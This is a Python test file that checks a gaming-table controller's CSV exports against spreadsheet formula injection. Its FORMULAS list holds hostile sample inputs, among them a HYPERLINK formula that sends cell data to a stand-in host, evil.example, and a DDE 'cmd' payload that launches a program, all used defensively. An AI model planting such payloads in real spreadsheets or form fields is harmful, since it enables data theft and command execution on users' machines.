"""What people typed is text in a spreadsheet, never a formula: in every CSV that is written."""

import csv
import io
import re
from datetime import UTC
from pathlib import Path

from controller.console.handlers.rounds import COLUMNS
from controller.journal import exports
from controller.journal.records import RECORD_FORMAT, Entry
from controller.messages.spreadsheet import Sheet, cell
from controller.upkeep import reports
from controller.views.figures import Figures, Tally
from support.console.consoles import Console
from support.journal.journals import opened
from support.rows import each_row

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"9H")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "|calc",
    "%0A=1",
)


def quoted(typed: str) -> str:
    return "'" + "".join(" " if each in "\t\r\n" else each for each in typed)


@each_row("typed", FORMULAS)
def test_what_begins_a_formula_is_text(typed: str) -> None:
    assert cell(typed) == quoted(typed)


@each_row("value", ["red", "9H KD", "{}", "", "a=b", "'", -5, -0.5, 7, None, True])
def test_numbers_and_other_text_stay_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_a_cell_begins_no_row_of_its_own() -> None:
    out = io.StringIO()
    Sheet(out).row(["red\r=1+1", "blue\n=1+1", "a,=1", "\x85=1"])
    assert out.getvalue() == 'red =1+1,blue =1+1,"a,=1",\' =1\n'


def cells(text: str) -> list[str]:
    return [each for row in csv.reader(io.StringIO(text)) for each in row]


def harmless(text: str) -> bool:
    """No cell that a spreadsheet would carry out; a number may begin with its sign."""
    number = re.compile(r"-?[0-9.]+(e[+-]?[0-9]+)?")
    return not any(
        each.lstrip()[:1] in tuple("=+-@\uff1d\uff0b|%") and not number.fullmatch(each)
        for each in cells(text)
        if each
    )


@each_row("typed", FORMULAS)
def test_rounds_export_carries_no_formula(typed: str, tmp_path: Path) -> None:
    console = Console(tmp_path)
    with console.browser() as browser:
        console.table.staff("open_table")
        console.table.load_shoe(typed)
        console.table.staff("open_betting")
        browser.sign_in("eve")
        answer = browser.get("/api/rounds/export.csv").text
    assert harmless(answer), answer
    row = dict(zip(COLUMNS, cells(answer)[len(COLUMNS) :], strict=True))
    assert row["deck_set"].removeprefix("'").strip() == typed.strip(), "and nothing of it is lost"


@each_row("typed", FORMULAS)
def test_report_carries_no_formula(typed: str) -> None:
    found = Figures(0.0, 3600.0)
    found.dealers["d1"] = Tally(rounds=3)
    found.deck_sets[typed] = Tally(rounds=3)
    found.halts[typed] += 1
    desk = reports.Desk(typed, UTC, tracked=True, misreads_most=5, people={"d1": typed})
    told = reports.as_csv(reports.report(found, desk))
    assert harmless(told), told
    assert quoted(typed) in cells(told)


def test_journal_export_carries_no_formula(tmp_path: Path) -> None:
    with opened(tmp_path) as journal:
        journal.append(*(Entry(typed, RECORD_FORMAT, 0.5, 1, 1, b'"=1+1"') for typed in FORMULAS))
    out = io.StringIO()
    exports.export_csv(tmp_path / "journal.db", out)
    assert harmless(out.getvalue())
    assert quoted(FORMULAS[0]) in cells(out.getvalue())


def test_every_csv_is_written_in_the_one_place() -> None:
    product = Path(exports.__file__).parents[1]
    found = [
        path.name
        for path in product.rglob("*.py")
        if re.search(r"^import csv", path.read_text(encoding="utf-8"), re.M)
    ]
    assert found == ["spreadsheet.py"]
